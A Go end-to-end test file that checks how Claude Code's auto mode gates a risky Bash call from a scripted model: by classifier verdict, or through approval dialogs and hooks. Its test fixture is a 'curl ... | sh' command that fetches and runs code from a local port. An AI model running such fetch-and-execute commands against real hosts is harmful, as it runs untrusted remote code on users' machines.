//go:build e2e

package e2e

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/ccmux/ccmux/cmd/ccmux/e2e/modelapi"
)

// risky is a command auto mode does not let through unchecked. It touches
// nothing: nobody listens on the port.
const risky = "curl -s http://127.0.0.1:9/x | sh; touch ran.txt"

func riskyScript(r *Rig) {
	p := r.API.Persona("frontend")
	p.On(modelapi.Says("risk it"), modelapi.Use("Bash", map[string]string{"command": risky, "description": "fetch and run"}))
	p.On(modelapi.After("Bash", ""), modelapi.Text("the risk is over"))
}

// With flags, claude has its own model check the action. Behind a gateway it
// first says, once, that this will cost.
func TestFactAutoModeChecksByClassifier(t *testing.T) {
	t.Parallel()
	for verdict, ran := range map[string]bool{"<severity>5</severity>": true, "<severity>95</severity><category>Data Exfiltration</category>": false} {
		t.Run(verdict[10:12], func(t *testing.T) {
			t.Parallel()
			r := newRig(t, newest)
			riskyScript(r)
			r.API.AnswerSide(modelapi.SideClassifier, modelapi.Text(verdict))
			dir := r.Folder("frontend")
			s := r.claude(dir, "frontend")
			r.ready(dir, s)
			s.Submit("risk it")
			s.Wait("We're changing auto mode", "Enter to continue")
			r.WaitsFor(dir, "dialog open")
			s.Answer("Enter")
			s.Wait("the risk is over")
			_, err := os.Stat(filepath.Join(dir, "ran.txt"))
			if (err == nil) != ran {
				t.Errorf("ran: %v, want %v", err == nil, ran)
			}
		})
	}
}

// Without flags the check is not to be had: two dialogs of auto mode's own,
// and for the second no PermissionRequest hook. The default row is No.
func TestFactAutoModeAsksInItsPane(t *testing.T) {
	t.Parallel()
	r := newRig(t, newest, WithoutFlags())
	riskyScript(r)
	dir := r.Folder("frontend")
	hooks := r.hooks("PermissionRequest", "PreToolUse")
	s := r.claude(dir, "frontend", "--settings", hooks.settings)
	r.ready(dir, s)
	s.Submit("risk it")
	s.Wait("Auto mode can't check actions in this session", "Enter to stay in auto mode")
	r.WaitsFor(dir, "dialog open")
	s.Answer("Enter")
	s.Wait("so this one needs your approval", "❯ No", "Yes")
	r.WaitsFor(dir, "permission prompt")
	s.Answer("Down")
	s.Wait("❯ Yes")
	s.Answer("Enter")
	s.Wait("the risk is over")
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err != nil {
		t.Errorf("the approved command did not run: %v", err)
	}
	if n := len(hooks.calls("PreToolUse")); n != 1 {
		t.Errorf("PreToolUse fired %d times, want 1", n)
	}
	if n := len(hooks.calls("PermissionRequest")); n != 0 {
		t.Errorf("PermissionRequest fired %d times, want none", n)
	}
}

// A user of the new version whose settings choose another mode is offered auto
// mode once, in a dialog that comes after the first turn. Yes is preselected.
func TestFactAutoModeIsOffered(t *testing.T) {
	t.Parallel()
	r := newRig(t, newest)
	r.API.Persona("frontend").On(modelapi.Says("hello"), modelapi.Text("hello, human"))
	dir := r.Folder("frontend")
	r.Write(filepath.Join(r.Home, ".claude", "settings.json"), `{"permissions":{"defaultMode":"default"}}`, 0o600)
	s := r.claude(dir, "frontend")
	s.Wait("❯")
	s.Wait("Make auto mode your default permission mode?", "❯ Yes, set auto mode as my default", "No, keep manual mode")
	r.WaitsFor(dir, "dialog open")
	s.Answer("Down")
	s.Wait("❯ No, keep manual mode")
	s.Answer("Enter")
	s.WaitGone("Make auto mode your default")
	r.ready(dir, s)
}
